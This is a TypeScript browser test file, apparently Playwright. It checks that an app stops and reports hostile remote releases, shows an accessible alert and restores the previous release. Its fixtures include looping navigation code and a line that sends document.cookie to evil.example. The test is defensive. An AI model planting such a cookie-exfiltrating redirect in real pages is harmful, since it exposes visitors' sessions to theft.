import { expectAccessible } from '../../support/accessible.ts';
import {
  expect,
  expectPreviousRelease,
  failureOf,
  releaseOf,
  REMOTE,
  test,
} from '../../support/bad-release-test.ts';
import { inBrowser } from '../../support/remote-source.ts';
import { reportsOf } from '../../support/sent-reports.ts';

test.use({ expectedNoise: /auth|TypeError|read only|not extensible|refused/ });

interface Case {
  what: string;
  /** Runs in browsers as the release is imported. */
  code: string;
  /** Text that the visitor reads. */
  text: string;
}

const CASES: readonly Case[] = [
  {
    what: 'navigates in a loop',
    code: `let count = 0; setInterval(() => history.pushState(null, '', '/login?n=' + (count += 1)), 50);`,
    text: 'kept opening pages by itself',
  },
  {
    what: 'loads the page again and again',
    code: `setTimeout(() => location.reload(), 50);`,
    text: 'kept opening pages by itself',
  },
  {
    what: 'takes the visitor to another site',
    code: `location.href = 'https://evil.example/?' + document.cookie;`,
    text: 'tried to take you to another site',
  },
];

for (const { what, code, text } of CASES)
  test(`a release that ${what} is stopped and reported, and the visitor goes on without it`, async ({
    page,
    publishBad,
  }) => {
    const version = await publishBad(releaseOf(inBrowser(code), `() => h('h1', { children: 'Bad' })`));
    const reports = reportsOf(page);
    await page.goto('/login');
    const dialog = page.getByRole('alertdialog');
    await expect(dialog).toContainText(`${REMOTE} ${version} ${text}`, { timeout: 30_000 });
    await expect.poll(() => reports).toContainEqual(failureOf(version, 'navigation'));
    await expectAccessible(page, dialog);
    await dialog.getByRole('button', { name: 'Reload' }).click();
    await expectPreviousRelease(page);
    await expect(dialog).toBeHidden();
  });
